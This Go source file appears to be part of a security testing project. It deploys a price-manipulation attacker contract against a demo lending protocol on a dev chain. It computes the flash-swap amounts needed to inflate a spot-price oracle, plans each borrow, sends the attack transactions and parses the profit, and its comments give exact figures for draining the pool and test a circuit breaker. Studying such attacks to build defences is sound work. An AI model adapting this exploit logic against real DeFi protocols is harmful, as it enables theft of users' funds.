package demoprotocol

import (
	"context"
	"crypto/ecdsa"
	"errors"
	"fmt"
	"math/big"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/ethclient"

	"github.com/warden-dev/warden/contracts/bindings/attacker"
)

// AttackPlan is the argument set of PriceManipulationAttacker.attack.
type AttackPlan struct {
	Flash      *big.Int // dUSD flash-swapped out of the flash pair and dumped into the oracle pair
	Collateral *big.Int // the attacker contract's own WETH deposited into the pool
	Borrow     *big.Int // dUSD borrowed at the inflated price
}

// DefaultAttack returns amounts that work against a deployment with the
// default Params (oracle pair 200,000 dUSD / 100 WETH, MaxBorrowPerTx 100,000
// dUSD), for the first attack and for every later one from the same attacker
// contract until the pool runs dry (10 attacks drain the default 1,000,000):
//
//   - Borrow: 100,000 dUSD = MaxBorrowPerTx, the most one borrow() may take;
//   - Collateral: 10 WETH, worth 20,000 dUSD at the fair price, where it may
//     back only 15,000 dUSD;
//   - Flash: 330,000 dUSD. Selling x dUSD into the oracle pair moves the spot
//     price to about (200k+x)(200k+0.997x)/(100*200k); borrowing 100k against
//     10 WETH at 75% LTV needs 13,333.33 dUSD/WETH (6.67x), first reached at
//     x = 316,873.31 dUSD (PlanAttack computes this exactly). 330,000 moves the
//     price to 14,018.77 (7.0x, limit 105,140 dUSD): ~4% headroom. Later
//     attacks need no more: the attacker's collateral and debt grow in the
//     same ratio, and each round trip leaves its swap fees in the oracle pair,
//     nudging the price up.
//
// Measured on the dev chain (TestAttackDrainsPool; ExpectedProfit predicts it
// to the wei): the first attack sends 98,258.18 dUSD to the attacker's owner
// (100,000 borrowed, minus 748.84 lost on the oracle pair round trip and
// 992.98 of flash-swap fee), i.e. ~78,258 dUSD net of the 20,000 dUSD of WETH
// left behind as collateral; later ones ~1.7 dUSD less each. Gas used:
// 344,568 for the first attack from a contract, 243,335 for later ones
// without the circuit breaker; with it (the default) 453,189 and 284,856
// (the breaker's first outflow snapshots the pool and opens a bucket), and
// the fifth attack within the breaker's hour reverts (TestBreakerCapsAttack).
func DefaultAttack() AttackPlan {
	return AttackPlan{
		Flash:      Ether(330_000),
		Collateral: Ether(10),
		Borrow:     Ether(100_000),
	}
}

// PlanAttack computes, from the oracle pair's current reserves and the
// attacker contract's current position in the pool, the smallest flash
// amount that lets attackerContract deposit collateral and borrow `borrow`,
// adds 2% headroom, and returns the plan with the dUSD profit the attack is
// expected to send to the owner. It fails when no flash amount up to 90% of
// the flash pair's dUSD reserve suffices.
func (p *Protocol) PlanAttack(ctx context.Context, client *ethclient.Client, attackerContract common.Address, collateral, borrow *big.Int) (AttackPlan, *big.Int, error) {
	rs, rw, err := p.Reserves(ctx, client, p.OraclePair)
	if err != nil {
		return AttackPlan{}, nil, err
	}
	fs, _, err := p.Reserves(ctx, client, p.FlashPair)
	if err != nil {
		return AttackPlan{}, nil, err
	}
	pos, err := p.PositionOf(ctx, client, attackerContract)
	if err != nil {
		return AttackPlan{}, nil, err
	}
	coll := new(big.Int).Add(pos.Collateral, collateral)
	debt := new(big.Int).Add(pos.Debt, borrow)
	maxFlash := new(big.Int).Div(new(big.Int).Mul(fs, big.NewInt(9)), big.NewInt(10))
	x, ok := minFlash(rs, rw, coll, debt, maxFlash)
	if !ok {
		return AttackPlan{}, nil, fmt.Errorf("demoprotocol: plan attack: no flash amount up to %s dUSD lets %s WETH of collateral back %s dUSD of debt", maxFlash, coll, debt)
	}
	x.Div(new(big.Int).Mul(x, big.NewInt(102)), big.NewInt(100))
	if x.Cmp(maxFlash) > 0 {
		x = maxFlash
	}
	plan := AttackPlan{Flash: x, Collateral: new(big.Int).Set(collateral), Borrow: new(big.Int).Set(borrow)}
	return plan, expectedProfit(rs, rw, plan), nil
}

// ExpectedProfit returns the dUSD an attack with plan would send to the
// attacker's owner if it ran now, from the oracle pair's current reserves
// (the same integer arithmetic as the contract and the pair). It does not
// check that the borrow would pass the pool's limit; see PlanAttack.
func (p *Protocol) ExpectedProfit(ctx context.Context, client *ethclient.Client, plan AttackPlan) (*big.Int, error) {
	rs, rw, err := p.Reserves(ctx, client, p.OraclePair)
	if err != nil {
		return nil, err
	}
	return expectedProfit(rs, rw, plan), nil
}

// getAmountOut is UniswapV2Library.getAmountOut (0.3% fee).
func getAmountOut(in, reserveIn, reserveOut *big.Int) *big.Int {
	inFee := new(big.Int).Mul(in, big.NewInt(997))
	num := new(big.Int).Mul(inFee, reserveOut)
	den := new(big.Int).Add(new(big.Int).Mul(reserveIn, big.NewInt(1000)), inFee)
	return num.Div(num, den)
}

// limitAfterDump is LendingPool.borrowLimit for coll after x dUSD were sold
// into a pair with reserves (rs dUSD, rw WETH).
func limitAfterDump(rs, rw, coll, x *big.Int) *big.Int {
	out := getAmountOut(x, rs, rw)
	ns := new(big.Int).Add(rs, x)
	nw := new(big.Int).Sub(rw, out)
	if nw.Sign() <= 0 {
		return new(big.Int)
	}
	one := big.NewInt(1e18)
	price := new(big.Int).Div(new(big.Int).Mul(ns, one), nw)
	l := new(big.Int).Mul(coll, price)
	l.Div(l, one)
	l.Mul(l, big.NewInt(7500))
	return l.Div(l, big.NewInt(10000))
}

// minFlash binary-searches the smallest x <= max with limitAfterDump >= debt.
func minFlash(rs, rw, coll, debt, max *big.Int) (*big.Int, bool) {
	if limitAfterDump(rs, rw, coll, max).Cmp(debt) < 0 {
		return nil, false
	}
	lo, hi := new(big.Int), new(big.Int).Set(max)
	for new(big.Int).Sub(hi, lo).Cmp(common.Big1) > 0 {
		mid := new(big.Int).Rsh(new(big.Int).Add(lo, hi), 1)
		if limitAfterDump(rs, rw, coll, mid).Cmp(debt) >= 0 {
			hi = mid
		} else {
			lo = mid
		}
	}
	return hi, true
}

// expectedProfit replays the attack's arithmetic: dump Flash into the oracle
// pair, sell what was bought back, repay Flash*1000/997+1; the dUSD left of
// Borrow is the profit (negative when the attack would fail to repay).
func expectedProfit(rs, rw *big.Int, plan AttackPlan) *big.Int {
	bought := getAmountOut(plan.Flash, rs, rw)
	ns := new(big.Int).Add(rs, plan.Flash)
	nw := new(big.Int).Sub(rw, bought)
	back := getAmountOut(bought, nw, ns)
	repay := new(big.Int).Div(new(big.Int).Mul(plan.Flash, big.NewInt(1000)), big.NewInt(997))
	repay.Add(repay, common.Big1)
	profit := new(big.Int).Add(plan.Borrow, back)
	return profit.Sub(profit, repay)
}

// DeployAttacker deploys PriceManipulationAttacker from the attacker's key
// (the key becomes its owner), wraps collateralWETH of the attacker's ETH and
// transfers it to the contract for use as collateral.
func DeployAttacker(ctx context.Context, client *ethclient.Client, attackerKey *ecdsa.PrivateKey, p *Protocol, collateralWETH *big.Int) (common.Address, error) {
	b, err := newBatch(ctx, client, attackerKey, p.ChainID)
	if err != nil {
		return common.Address{}, err
	}
	addr, err := b.deploy("deploy PriceManipulationAttacker", &attacker.PriceManipulationAttackerMetaData,
		attackerABI.PackConstructor(p.LendingPool, p.OraclePair, p.FlashPair, p.Stable, p.WETH))
	if err != nil {
		return common.Address{}, err
	}
	if collateralWETH != nil && collateralWETH.Sign() > 0 {
		if _, err := b.call("attacker wraps ETH into WETH", p.WETH, wethABI.PackDeposit(), collateralWETH, GasWrap); err != nil {
			return common.Address{}, err
		}
		if _, err := b.call("attacker funds its contract with WETH", p.WETH, wethABI.PackTransfer(addr, collateralWETH), nil, GasTransfer); err != nil {
			return common.Address{}, err
		}
	}
	if _, err := b.wait(); err != nil {
		return common.Address{}, err
	}
	return addr, nil
}

// AttackTx sends one attack(flash, collateral, borrow) transaction from the
// attacker contract's owner with the fixed gas limit GasAttack and returns
// it without waiting: the caller waits for the receipt (see WaitMined),
// whose status is 0 when the attack fails, e.g. because the pool is paused.
func (p *Protocol) AttackTx(ctx context.Context, client *ethclient.Client, attackerKey *ecdsa.PrivateKey, attackerContract common.Address, flash, collateral, borrow *big.Int) (*types.Transaction, error) {
	return sendOne(ctx, client, attackerKey, p.ChainID, "attack", attackerContract,
		attackerABI.PackAttack(flash, collateral, borrow), nil, GasAttack)
}

// AttackResult is the AttackExecuted event of a successful attack.
type AttackResult struct {
	Flash, Collateral, Borrowed *big.Int
	Profit                      *big.Int // dUSD sent to the attacker's owner
}

// ParseAttack extracts the AttackExecuted event from an attack receipt.
func ParseAttack(r *types.Receipt) (AttackResult, error) {
	id := attackerABI.GetABI().Events["AttackExecuted"].ID
	for _, l := range r.Logs {
		if len(l.Topics) == 0 || l.Topics[0] != id {
			continue
		}
		ev, err := attackerABI.UnpackAttackExecutedEvent(l)
		if err != nil {
			return AttackResult{}, fmt.Errorf("demoprotocol: decode AttackExecuted: %w", err)
		}
		return AttackResult{Flash: ev.FlashAmount, Collateral: ev.CollateralDeposited, Borrowed: ev.Borrowed, Profit: ev.Profit}, nil
	}
	return AttackResult{}, errors.New("demoprotocol: no AttackExecuted event in receipt")
}
